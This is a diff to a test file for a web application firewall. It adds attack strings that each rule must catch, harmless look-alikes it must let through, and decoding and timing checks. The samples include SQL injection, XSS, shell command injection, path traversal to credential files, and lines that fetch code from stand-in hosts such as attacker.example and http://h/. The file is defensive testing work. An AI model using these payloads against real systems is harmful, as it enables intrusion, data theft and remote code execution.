@@ -1,6 +1,7 @@
 // The WAF's detectors, pure: every rule on an attack it is for and on harmless text that looks a
 // little like it (prose, code in a forum post), the issue's examples, the decoders, and the cost
 // of adversarial input (no detector may take more than linear time).
+import { createHash, randomBytes } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
 import { decodedForms, percentDecode } from '../../src/edge/waf/decode.ts';
 import { ATTACK_RULES, inspect, protocolFinding } from '../../src/edge/waf/inspect.ts';
@@ -9,39 +10,39 @@ import { requestInputs } from '../../src/edge/waf/inputs.ts';
 
 /** rule id → [inputs it must be found in, inputs nothing may be found in] (as query values). */
 const SAMPLES: Record<number, [string[], string[]]> = {
-  942100: [['1 union all select password from users', '-1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3'], ['the union was a great select of people', 'trade union select committee']],
+  942100: [['1 union all select password from users', '-1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3', "1e0union select 1,2", "1' uniunionon selselectect 1,2-- -", "1 union distinctrow select 1,2"], ['the union was a great select of people', 'trade union select committee']],
   942110: [["1; waitfor delay '0:0:5'--", '1 and sleep(15)'], ['I need sleep (8 hours)', 'sleep (lots)']],
-  942120: [['(select top 1 name from sysusers)', "1'+(select 1 from dual)+'"], ['(select one) from the list', '(select an option from the menu)']],
-  942130: [["1'; drop table users--", '3; declare @c varchar(255)'], ['done; drop by tomorrow', 'it is late; select the best one']],
+  942120: [['(select top 1 name from sysusers)', "1'+(select 1 from dual)+'", "' or 1 in (select @@version)--", '1 rlike (select 1)', "1' rlike (select (case when (1=1) then 1 else 0 end))-- -", "1 order by (select 1 from pg_sleep(5))", "' or exists(select 1 from users)-- "], ['(select one) from the list', '(select an option from the menu)']],
+  942130: [["1'; drop table users--", '3; declare @c varchar(255)', "1'; set @q=0x53; prepare s from @q; execute s;-- -", "'; exec master..xp_dirtree '\\\\h\\s'--"], ['done; drop by tomorrow', 'it is late; select the best one']],
   942140: [['exec master.dbo.xp_cmdshell', 'x from information_schema.tables'], ['the master bedroom', 'the idv_msdb database']],
-  942150: [["admin' or 'a'='a", '1 AND substring(version(),1,1)=5'], ["D'or 1st parfume", "O'Reilly or Wiley=good publishers"]],
+  942150: [["admin' or 'a'='a", '1 AND substring(version(),1,1)=5', "' or 1.e(1) or '1'='1", "select * from users where id = 1 or 1=1", "1 or 3 between 2 and 4", "1' and 5 not between 0 and 4-- -"], ["D'or 1st parfume", "O'Reilly or Wiley=good publishers", "3+ yrs (part-time); bar & restaurant", "rock or 1 more"]],
   942160: [['1 OR 2>1', "admin'or(1)=(1)-- -"], ['chapter 12 and 12 more', '1) a-b=c']],
   942170: [['extractvalue(1,concat(0x7e,version()))', 'updatexml(1,concat(0x7e,user()),1)'], ['extract the value', 'concat the strings']],
   942180: [["admin'-- ", "admin'#"], ["it's -- so they say", '"#1 best seller"']],
   942190: [["1' ORDER BY 5-- -", "1' group by 2"], ["I'd like to order by phone", 'sort by 5']],
-  941100: [['<script>alert(1)</script>', '<svg/onload=alert(1)>'], ['a script for the play', 'h2<h1']],
-  941110: [['<button autofocus onfocusin=print()>', '" onwheel=x()'], ['only=1337 on the list', 'set onload in the config']],
+  941100: [['<script>alert(1)</script>', '<svg/onload=alert(1)>', "<style>@import'//evil.example/x.css';</style>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"], ['a script for the play', 'h2<h1']],
+  941110: [['<button autofocus onfocusin=print()>', '" onwheel=x()', "<input autofocus ng-focus=$event.x>"], ['only=1337 on the list', 'set onload in the config']],
   941120: [['javascript:alert(1)', '<a href="jav&#x09;ascript:x()">', 'javascr\tipt:alert(1)', 'java\nscript:alert(1)'], ['JavaScript: Basics of JavaScript Language', 'Learn JavaScript: a guide (2nd edition)']],
   941130: [['"><b>', "'><p>"], ['<b>bold</b> and <i>italic</i>', 'if (a < b && c > d) return;']],
   941140: [['alert(document.domain)', 'confirm.call(null,1)'], ['an alert was raised', 'use print(x) in python']],
   941150: [['x=document.cookie', '__proto__[admin]=1'], ['a document about cookies', 'the constructor of the house']],
   941160: [["setInterval('ale'+'rt(1)')", 'eval("x")'], ['set an interval', 'evaluate it']],
   941170: [['";fetch(x)//', "'-alert(1)//"], ["it's alert", 'see (page 2)']],
-  932100: [['x;{curl,-o,/tmp/s,http://h/}', '; cat /etc/hosts'], ['cat and dog', 'Set the table\nType your name']],
+  932100: [['x;{curl,-o,/tmp/s,http://h/}', '; cat /etc/hosts', ";a=i;b=d;$a$b", "test.jpg; id #", ";/???/c?t /???/p??s??", "& c^m^d /c w^h^o^a^m^i", "| wmic process call create \"calc.exe\"", "$(rev<<<'imaohw')"], ['cat and dog', 'Set the table\nType your name']],
   932110: [['$(id)', 'a=`whoami`'], ['costs $ 5 (each)', 'run `ls -la` to see the files']],
   932120: [['() { :; }; echo', '() { x; }; id'], ['() {} empty', 'f() { return 1 }']],
   932130: [['cat</dev/tcp/192.0.2.1/80', '/bin/bash -c id'], ['the bin is bashed', 'my /bin folder']],
-  932140: [['x --upload-pack=touch /tmp/p', '-oProxyCommand=id'], ['exec noun', 'the --upload flag']],
-  932150: [["__import__('os').system('id')", 'Runtime.getRuntime().exec("id")'], ['python objects', 'the system (of record)']],
-  930100: [['../../etc/x', '..%c0%af..%c0%afboot'], ['one..two', 'use ../lib for that']],
-  930110: [['/etc/shadow', 'c:\\windows\\win.ini'], ['etc and shadows', 'the windows system']],
-  930120: [['\\\\host\\c$\\windows', '\\\\::1\\c$\\users'], ['c$ money', 'a \\ b']],
-  930130: [['php://filter/resource=index', 'expect://id'], ['php filter tips', 'https://example.org/']],
+  932140: [['x --upload-pack=touch /tmp/p', '-oProxyCommand=id', "-exec id ;", "--output=/tmp/x"], ['exec noun', 'the --upload flag', "find . -type f -exec ls {} \\;"]],
+  932150: [["__import__('os').system('id')", 'Runtime.getRuntime().exec("id")', "phpinfo();", "class.module.classLoader.resources.context", "rO0ABXNyABdqYXZh", "<?php echo md5(1); ?>", "O:8:\"stdClass\":0:{}", "IEX(New-Object Net.WebClient).DownloadString('http://h/a')"], ['python objects', 'the system (of record)', "the IEX exchange opened", "php info page"]],
+  930100: [['../../etc/x', '..%c0%af..%c0%afboot', '%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd'], ['one..two', 'use ../lib for that']],
+  930110: [['/etc/shadow', 'c:\\windows\\win.ini', "/.git/config", "/var/log/apache2/access.log", "c:\\inetpub\\wwwroot\\web.config"], ['etc and shadows', 'the windows system', "my .git folder", "the var log"]],
+  930120: [['\\\\host\\c$\\windows', '\\\\::1\\c$\\users', '\\\\attacker.example\\share\\x'], ['c$ money', 'a \\ b']],
+  930130: [['php://filter/resource=index', 'expect://id', "http://attacker.example/shell.txt?", "data:text/plain,<?php phpinfo(); ?>"], ['php filter tips', 'https://example.org/', "https://example.org/search?", "http://www.w3.org/2000/09/xmldsig#"]],
   934100: [['<!--#exec cmd="ls" -->', '<!--#include virtual="/x"-->'], ['<!-- a comment -->', '#include <stdio.h>']],
   934110: [['{{7*7}}', '${T(java.lang.Runtime).getRuntime()}'], ['{{ name }}', 'price ${ amount }']],
   934120: [['<!DOCTYPE x [ <!ENTITY y SYSTEM "file:///etc/passwd"> ]>', '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/x"/></x>'], ['<!doctype html>', '<?xml version="1.0"?><a>b</a>']],
   934130: [['*)(uid=*))(|(uid=*', '(&(uid=admin)(|(a=b)))'], ['(a) and (b)', 'f(x)(y)']],
-  934140: [['{"user": {"$ne": null}}', 'db.users.find({})'], ['where is the $ sign', 'I have $100']],
+  934140: [['{"user": {"$ne": null}}', 'db.users.find({})', "'; return true; var x='"], ['where is the $ sign', 'I have $100']],
   944150: [['${jndi:ldap://x/a}', '${${lower:j}${::-n}di:ldap://x}'], ['${name}', '${ price }']],
   921110: [['x\r\nRCPT TO: a@example.org', '\r\nQUIT\r\n'], ['rcpt to me please', 'quit\nsmoking']],
   921100: [['a\r\nSet-Cookie: x=1', '%e5%98%8dset-cookie:x'], ['a set-cookie header', 'line one\r\nline two']],
@@ -86,14 +87,58 @@ describe('WAF rules', () => {
     expect(decodedForms('\\u003cscript\\u003e')).toContain('<script>');
   });
 
-  it('decodes base64 at level 2 only', () => {
+  it('decodes base64 that decodes to text, at every level; tokens, ids and hashes stay unread', () => {
     const encoded = Buffer.from("1' union select password from users--").toString('base64');
-    expect(found(encoded, 1)).toBeUndefined();
+    expect(found(encoded, 1)).toMatchObject({ class: 'sqli' });
     expect(found(encoded, 2)).toMatchObject({ class: 'sqli' });
-    // Unpadded, URL alphabet: a value of letters and digits alone is still read at level 2.
+    // Unpadded, URL alphabet: a value of letters and digits alone is read too…
     const word = Buffer.from('<script>alert(1)</script>').toString('base64url');
     expect(word).toMatch(/^\w+$/);
-    expect(found(word, 2)).toMatchObject({ class: 'xss' });
+    expect(found(word, 1)).toMatchObject({ class: 'xss' });
+    // …and so is a path segment of it (an app routes /files/{name} to a parameter).
+    expect(inspect('GET', `/files/${Buffer.from('../../etc/passwd').toString('base64url')}`, {})).toMatchObject({ class: 'lfi', where: 'path segment (base64)' });
+    // What decodes to bytes is no text: hashes, random tokens, UUIDs, ids; benign text decodes harmless.
+    const harmless = [
+      createHash('sha256').update('x').digest('hex'),
+      randomBytes(24).toString('base64url'),
+      randomBytes(32).toString('base64'),
+      '3f2504e0-4f89-11d3-9a0c-0305e82c3301',
+      'SKU12345X37035',
+      Buffer.from('{"user":"ann","cart":[12,14],"theme":"dark"}').toString('base64'),
+      Buffer.from('Please select the size you want from the list; order by phone if needed.').toString('base64'),
+    ];
+    for (const value of harmless) {
+      expect(found(value, 1), value).toBeUndefined();
+      expect(inspect('GET', `/items/${value}`, {}), value).toBeUndefined();
+    }
+    // A JWT: three base64url parts joined by dots is a token, not text.
+    const jwt = ['{"alg":"HS256","typ":"JWT"}', '{"sub":"42","name":"Ann O\'Neil","iat":1700000000}'].map((p) => Buffer.from(p).toString('base64url')).join('.') + '.' + randomBytes(32).toString('base64url');
+    expect(inspect('GET', '/', { authorization: `Bearer ${jwt}`, cookie: `session=${jwt}` })).toBeUndefined();
+  });
+
+  it('reads a backtick as a substitution unless it quotes code in prose (a Markdown code span, at level 1)', () => {
+    for (const attack of ['127.0.0.1 `id`', 'x `cat /etc/passwd`', 'a.example `wget http://h/s`']) expect(found(attack), attack).toMatchObject({ rule: 932110 });
+    for (const prose of ['run `ls -la` to see the files', 'You can use `git log --oneline | head -5` to see the last commits', 'try this:\n```sh\nls -la | grep conf\n```\nthen tell me']) {
+      expect(found(prose), prose).toBeUndefined();
+      expect(found(prose, 2), prose).toBeDefined();
+    }
+  });
+
+  it("reads an editor's HTML body field as a document: embeds pass, script does not", () => {
+    const field = (html: string) => inspect('POST', '/wp-admin/post.php', { 'content-type': 'application/x-www-form-urlencoded' }, [{ where: 'body field content', param: 'content', value: encodeURIComponent(html), plus: true, body: true }]);
+    expect(field('<p>Watch:</p>\n<iframe width="560" src="https://www.youtube.com/embed/x" allowfullscreen></iframe>')).toBeUndefined();
+    expect(field('<p>Listen:</p>\n<audio controls src="/ep12.mp3"></audio>\n[contact-form-7 id="1"]')).toBeUndefined();
+    expect(field('<p>hi</p><script>alert(1)</script>')).toMatchObject({ class: 'xss' });
+    expect(field('<p>hi</p><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>')).toMatchObject({ class: 'xss' });
+    expect(field('<p>hi</p><img src=x onerror=alert(1)>')).toMatchObject({ class: 'xss' });
+    // The same iframe in a query value is no editor's document.
+    expect(found('<iframe src="https://evil.example/">')).toMatchObject({ class: 'xss' });
+  });
+
+  it('refuses a NUL byte in URL, header and cookie values (truncation), not in bodies', () => {
+    expect(inspect('GET', '/?file=shell.php%00.jpg', {})).toMatchObject({ rule: 920140 });
+    expect(inspect('GET', '/', { 'x-file': 'a.txt%2500' })).toMatchObject({ rule: 920140 });
+    expect(inspect('GET', '/', { cookie: 'f=a%00b' })).toMatchObject({ rule: 920140 });
   });
 
   it('joins repeated parameters (",", as ASP.NET does, and concatenated)', () => {
@@ -155,19 +200,29 @@ describe('WAF rules', () => {
     }
   });
 
-  it('costs linear time on adversarial input (64 KiB of what each detector backtracks on)', () => {
-    const k = 64 * 1024;
-    const inputs = [
-      "'".repeat(k), '/*'.repeat(k / 2), '<a '.repeat(k / 3), 'on'.repeat(k / 2) + '=', '${'.repeat(k / 2), '{{'.repeat(k / 2), ';'.repeat(k), '`'.repeat(k), '../'.repeat(k / 3),
-      '('.repeat(k), 'union '.repeat(k / 6), 'sleep '.repeat(k / 6), '<!--'.repeat(k / 4), '%'.repeat(k), '&#'.repeat(k / 2), '\\u'.repeat(k / 2), "'+'".repeat(k / 3), 'a=1&'.repeat(k / 4), "1' or ".repeat(k / 6),
-      '<x '.repeat(k / 3) + 'onx', '"\'"'.repeat(k / 3), '$ifs'.repeat(k / 4), '{a,'.repeat(k / 3), '\n'.repeat(k), 'javascript:'.repeat(k / 11), 'select '.repeat(k / 7),
+  it('costs linear time on adversarial input (16 and 64 KiB of what each detector backtracks on)', () => {
+    // Each pattern at two sizes; a linear reading takes ~4x as long at four times the size, a
+    // quadratic one ~16x. Best of five runs each (the machine may be busy), with a floor for
+    // the timer's grain.
+    const patterns: Array<[string, number]> = [
+      ["'", 1], ['/*', 2], ['<a ', 3], ['on', 2], ['${', 2], ['{{', 2], [';', 1], ['`', 1], ['../', 3], ['(', 1], ['union ', 6], ['sleep ', 6], ['<!--', 4], ['%', 1], ['&#', 2], ['\\u', 2], ["'+'", 3], ['a=1&', 4], ["1' or ", 6],
+      ['<x ', 3], ['"\'"', 3], ['$ifs', 4], ['{a,', 3], ['\n', 1], ['javascript:', 11], ['select ', 7], ['`x` y z ', 8], ['``` a ', 6], ['/**/', 4], ['1 or 3 between ', 15], ['$()', 3], ['/???/', 5],
       // The trigger-word scan (long words that share prefixes) and the gates before each pattern.
-      'sp_'.repeat(k / 3), 'information_schem'.repeat(k / 17), 'sys_eva '.repeat(k / 8), '/b'.repeat(k / 2), '; x'.repeat(k / 3), '(s'.repeat(k / 2), '$where'.repeat(k / 6), '..;'.repeat(k / 3),
+      ['sp_', 3], ['information_schem', 17], ['sys_eva ', 8], ['/b', 2], ['; x', 3], ['(s', 2], ['$where', 6], ['..;', 3],
     ];
-    for (const input of inputs) {
-      const started = performance.now();
-      inspect('POST', '/', { 'content-type': 'text/plain' }, [{ where: 'body', value: input, body: true }], { waf_level: 4 });
-      expect(performance.now() - started, input.slice(0, 12)).toBeLessThan(250);
+    const cost = (value: string) => {
+      let best = Infinity;
+      for (let round = 0; round < 5; round++) {
+        const started = performance.now();
+        inspect('POST', '/', { 'content-type': 'text/plain' }, [{ where: 'body', value, body: true }], { waf_level: 4 });
+        best = Math.min(best, performance.now() - started);
+      }
+      return best;
+    };
+    for (const [unit, length] of patterns) {
+      const small = cost(unit.repeat((16 * 1024) / length));
+      const large = cost(unit.repeat((64 * 1024) / length));
+      expect(large, `${unit}: ${small.toFixed(1)} ms at 16 KiB, ${large.toFixed(1)} ms at 64 KiB`).toBeLessThan(8 * small + 30);
     }
   });
 });
